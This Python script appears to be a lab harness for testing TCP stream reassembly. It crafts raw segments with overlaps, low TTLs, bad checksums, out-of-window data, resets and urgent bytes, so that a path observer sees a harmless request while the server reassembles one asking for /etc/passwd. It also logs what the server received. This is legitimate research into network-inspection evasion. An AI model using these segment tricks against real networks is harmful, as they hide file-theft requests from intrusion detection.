"""A client that shows its own kernel's TCP to nobody: it says one thing to whoever looks at the path, and another to the server.

smuggle.py serve ADDRESS              reads one connection after the other; what it has read of each, a line in hexadecimal
smuggle.py ADDRESS FIRST_PORT MARK    tries every case; a line with its name for each, when the server has acknowledged all of it

The server's host drops what has a TTL below 10: the path ends before it. The client's kernel must not answer: its host drops what
does not have the MARK.
"""
import random
import select
import socket
import struct
import sys
import time

PORT = 7400
FIN, SYN, RST, PSH, ACK, URG = 1, 2, 4, 8, 16, 32
FIRST = 0xFFFFFF00  # the stream wraps around
HELLO = b"hello\r\n"
EVIL = b"GET /x?file=/etc/passwd&y=1 HTTP/1.0\r\n"
HONEST = EVIL.replace(b"/etc/passwd", b"/etc/nobody")
FAR = 1 << 24


def segment(at, data, **how):
    return at, data, how


def beforehand(*first):
    """What is not to be taken goes first, and then what is to be read."""
    return [*first, segment(0, EVIL)]


def instead(**how):
    """The middle of the pattern comes twice; the first copy is not to be taken."""
    return [segment(0, EVIL[:16]), segment(16, HONEST[16:20], **how), segment(16, EVIL[16:20]), segment(20, EVIL[20:])]


def named():
    never = {
        "low_ttl": {"ttl": 5},
        "bad_checksum": {"bad": True},
        "old_timestamp": {"older": 1 << 20},
        "signed": {"signed": True},
        "without_ack": {"flags": PSH},
        "acknowledging_the_future": {"ack": FAR},
        "with_syn": {"flags": SYN | ACK},
    }
    for name, how in never.items():
        yield name, beforehand(segment(0, HONEST, **how))
        yield name + "_within", instead(**how)
    yield "plain", beforehand()
    yield "in_pieces", [segment(at, EVIL[at:at + 1]) for at in range(len(EVIL))]
    yield "beyond_the_window", beforehand(segment(FAR, HONEST))
    yield "before_the_window", beforehand(segment(-FAR, HONEST))
    yield "reset_beyond_the_window", beforehand(segment(FAR, b"", flags=RST))
    yield "reset_within_the_window", beforehand(segment(9, b"", flags=RST))
    for flags, name in ((RST, "reset"), (RST | ACK, "reset_with_ack"), (FIN | ACK, "fin")):
        yield name + "_low_ttl", beforehand(segment(0, b"", flags=flags, ttl=5))
        yield name + "_bad_checksum", beforehand(segment(0, b"", flags=flags, bad=True))
    # The urgent byte is taken out of the stream.
    yield "urgent", [segment(0, EVIL[:16] + b"!" + EVIL[16:], flags=ACK | URG, urgent=17)]
    yield "urgent_alone", [
        segment(0, EVIL[:16]), segment(16, b"!", flags=ACK | URG, urgent=1), segment(17, EVIL[16:]),
    ]
    yield "behind_a_hole", [segment(16, HONEST[16:]), segment(10, EVIL[10:]), segment(0, EVIL[:20])]
    yield "behind_a_hole_first", [segment(10, EVIL[10:]), segment(16, HONEST[16:]), segment(0, EVIL[:12])]


def at_random(number):
    """Pieces of what is to be read and of what is not, which contradict each other, in any order; then what is to be read."""
    chance = random.Random(number)
    pieces = []
    for _ in range(chance.randint(3, 9)):
        at = chance.randrange(len(EVIL))
        text = EVIL if chance.random() < 0.7 else HONEST
        how = {"ttl": 5} if chance.random() < 0.2 else {"bad": True} if chance.random() < 0.1 else {}
        pieces.append(segment(at, text[at:at + chance.randint(1, 30)], **how))
    at = 0
    while at < len(EVIL):
        length = chance.randint(1, 15)
        pieces.append(segment(at, EVIL[at:at + length]))
        at += length
    return f"at_random_{number}", pieces


class Peer:
    def __init__(self, address, mark):
        self.family = socket.AF_INET6 if ":" in address else socket.AF_INET
        self.raw = socket.socket(self.family, socket.SOCK_RAW, socket.IPPROTO_TCP)
        self.raw.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, mark)
        self.raw.connect((address, 0))
        self.addresses = [socket.inet_pton(self.family, at[0]) for at in (self.raw.getsockname(), (address, 0))]

    def open(self, port):
        self.port, self.next, self.acked, self.echo = port, 0, FIRST, 0
        self.send(-1, b"", flags=SYN, options=bytes([2, 4, 5, 140]))
        self.until(lambda: self.next) or sys.exit("no SYN-ACK")
        self.send(0, b"")

    def send(self, at, data, flags=ACK | PSH, ttl=64, bad=False, older=0, signed=False, ack=0, urgent=0, options=b""):
        options += bytes([1, 1, 8, 10]) + struct.pack("!II", self.now() - older & 0xFFFFFFFF, self.echo)
        options += (bytes([1, 1, 19, 18]) + bytes(16)) * signed
        words = (self.port, PORT, FIRST + at & 0xFFFFFFFF, self.next + ack & 0xFFFFFFFF * bool(flags & ACK))
        words += ((5 + len(options) // 4) << 4, flags, 64000, 0, urgent)
        tcp = struct.pack("!HHIIBBHHH", *words) + options + data
        total = checksum(b"".join(self.addresses) + struct.pack("!II", len(tcp), 6) + tcp) ^ (0x5555 * bad)
        level, hops = (socket.IPPROTO_IP, socket.IP_TTL)
        if self.family == socket.AF_INET6:
            level, hops = (socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS)
        self.raw.setsockopt(level, hops, ttl)
        self.raw.send(tcp[:16] + struct.pack("!H", total) + tcp[18:])

    def now(self):
        return int(time.monotonic() * 1000) + (1 << 30)

    def until(self, holds, within=5.0, again=lambda: None):
        """Takes what comes until it holds."""
        end = time.monotonic() + within
        while not holds() and time.monotonic() < end:
            if select.select([self.raw], [], [], 0.02)[0]:
                self.take(self.raw.recv(4000))
            else:
                again()
        return holds()

    def take(self, packet):
        tcp = packet[(packet[0] & 15) * 4:] if self.family == socket.AF_INET else packet
        source, to, seq, ack, offset, flags = struct.unpack("!HHIIBB", tcp[:14])
        if (source, to) != (PORT, self.port) or flags & RST:
            return
        if flags & SYN:
            self.next = seq + 1
        if flags & ACK and (ack - self.acked) & 0xFFFFFFFF < 1 << 31:
            self.acked = ack
        options = tcp[20:(offset >> 4) * 4]
        at = options.find(bytes([8, 10]))
        if at >= 0:
            self.echo = struct.unpack("!I", options[at + 2:at + 6])[0]

    def all_acknowledged(self, length):
        return self.acked == FIRST + length & 0xFFFFFFFF

    def attempt(self, port, pieces):
        """Says hello, tries, and says what an honest client says; whether all has been acknowledged."""
        self.open(port)
        hello = lambda: self.send(0, HELLO)
        hello()
        self.until(lambda: self.all_acknowledged(len(HELLO)), again=hello) or sys.exit("hello is not acknowledged")
        time.sleep(0.01)
        for at, data, how in pieces:
            self.send(len(HELLO) + at, data, **how)
        # One more for the urgent byte.
        total = HELLO + HONEST + b"\n"

        def rest():
            acked = self.acked - FIRST & 0xFFFFFFFF
            self.send(acked, total[acked:])

        rest()
        return self.until(lambda: self.all_acknowledged(len(total)), within=2.0, again=rest)

    def reset(self):
        self.send(self.acked - FIRST, b"", flags=RST)


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def read_all(connection):
    connection.settimeout(20)
    got = b""
    try:
        while more := connection.recv(4096):
            got += more
    except (ConnectionResetError, TimeoutError):
        pass
    return got


def serve(address):
    listener = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind((address, PORT))
    listener.listen(64)
    print("listening", flush=True)
    while True:
        connection, _ = listener.accept()
        with connection:
            print("read", read_all(connection).hex(), flush=True)


def main():
    if sys.argv[1] == "serve":
        return serve(sys.argv[2])
    peer = Peer(sys.argv[1], int(sys.argv[3]))
    cases = [*named(), *map(at_random, range(40))]
    for count, (name, pieces) in enumerate(cases):
        is_whole = peer.attempt(int(sys.argv[2]) + count, pieces)
        peer.reset()
        print(name, "whole" if is_whole else "cut", flush=True)


main()
